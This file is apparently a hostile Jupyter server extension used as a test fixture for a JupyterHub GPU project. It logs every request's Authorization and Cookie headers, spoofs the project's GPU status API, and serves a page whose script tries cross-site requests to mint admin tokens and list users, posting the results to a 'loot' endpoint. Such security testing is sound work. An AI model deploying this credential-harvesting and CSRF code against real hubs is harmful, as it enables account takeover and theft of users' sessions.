"""A hostile user's own server extension, as any user can load one from their home.

Copied by the tests into `~/.hostile/` of a user's container and enabled from
`~/.jupyter/jupyter_server_config.py`; the server picks it up at its next start. It:

- records the `Authorization` header of every request its server receives
  (`~/.hostile/headers.jsonl`), whoever sends it;
- answers the GPU API itself (the project's own extension is switched off): the status
  answer is whatever bytes `~/.hostile/answer` holds at that moment, and idle warnings are
  accepted;
- serves, without any login, a page (`hostile/page`) whose script tries to act on the hub
  as whoever opens it, and posts what it got back (`hostile/loot` -> `~/.hostile/loot.jsonl`).

Nothing here is imported by the tests; it runs only inside a user's container.
"""

import json
import os
import time

from tornado import web

HOME = os.path.expanduser("~/.hostile")
PAGE = """<!doctype html><html><head><title>hostile</title></head><body>
<h1 id="state">working</h1>
<script>
const hub = HUB_ORIGIN;
const tries = [];
async function attempt(label, url, options) {
  try {
    const r = await fetch(url, Object.assign({credentials: "include"}, options || {}));
    const text = await r.text();
    tries.push({label, url, status: r.status, type: r.type, body: text.slice(0, 4000)});
    return text;
  } catch (e) {
    tries.push({label, url, error: String(e)});
    return "";
  }
}
async function steal(base) {
  const page = await attempt("token page", base + "/hub/token");
  const m = page.match(/xsrf_token:\\s*"([^"]*)"/) || page.match(/name="_xsrf" value="([^"]*)"/);
  const xsrf = m ? m[1] : "";
  const headers = {"Content-Type": "application/json"};
  if (xsrf) headers["X-XSRFToken"] = xsrf;
  await attempt("mint admin token", base + "/hub/api/users/admin/tokens", {
    method: "POST", headers, body: JSON.stringify({note: "stolen", expires_in: 3600}),
  });
  // A "simple" request: no preflight, the browser sends the cookies it would send.
  await attempt("mint (simple)", base + "/hub/api/users/admin/tokens" +
    (xsrf ? "?_xsrf=" + encodeURIComponent(xsrf) : ""), {
    method: "POST", body: JSON.stringify({note: "stolen-simple"}),
    headers: {"Content-Type": "text/plain"},
  });
  await attempt("list users", base + "/hub/api/users");
}
(async () => {
  await steal("");      // this page's own origin
  await steal(hub);     // the hub's origin
  await fetch("loot", {method: "POST", body: JSON.stringify(tries)});
  document.getElementById("state").textContent = "done";
})();
</script></body></html>"""


def _append(name, record):
    with open(os.path.join(HOME, name), "a") as f:
        f.write(json.dumps(record) + "\n")


class Recorded(web.RequestHandler):
    """Every request to these handlers is recorded, whoever sends it."""

    def prepare(self):
        _record(self)


class Page(Recorded):
    def get(self):
        hub = os.environ.get("JUPYTERHUB_HOST") or ""
        self.set_header("Content-Type", "text/html")
        self.finish(PAGE.replace("HUB_ORIGIN", json.dumps(hub)))


class Loot(Recorded):
    def check_xsrf_cookie(self):
        pass

    def post(self):
        _append("loot.jsonl", {"at": time.time(), "tries": json.loads(self.request.body)})
        self.finish("ok")


class Status(Recorded):
    def get(self):
        try:
            with open(os.path.join(HOME, "answer"), "rb") as f:
                body = f.read()
        except OSError:
            body = b'{"state": "ok", "gpus": []}'
        self.set_header("Content-Type", "application/json")
        self.finish(body)


class Reclaim(Recorded):
    def check_xsrf_cookie(self):
        pass

    def post(self):
        _append("warnings.jsonl", {"at": time.time(), "body": self.request.body.decode()})
        self.finish({"warning": None, "kept_at": None})

    def delete(self):
        self.finish({"warning": None, "kept_at": None})


def _record(handler):
    _append(
        "headers.jsonl",
        {
            "at": time.time(),
            "path": handler.request.path,
            "authorization": handler.request.headers.get("Authorization", ""),
            "cookie": handler.request.headers.get("Cookie", ""),
        },
    )


def _record_others(handler):
    if not isinstance(handler, Recorded):  # those recorded themselves already
        _record(handler)


def _jupyter_server_extension_points():
    return [{"module": "hostile_ext"}]


def _load_jupyter_server_extension(serverapp):
    base = serverapp.base_url
    app = serverapp.web_app
    # Requests to the server's own handlers too, through tornado's request log.
    app.settings["log_function"] = _record_others
    # Added ahead of the server's own handlers (tornado inserts extension rules first).
    app.add_handlers(
        ".*$",
        [
            (base + "hostile/page", Page),
            (base + "hostile/loot", Loot),
            (base + "api/gpu/v1/status", Status),
            (base + "api/gpu/v1/reclaim", Reclaim),
        ],
    )
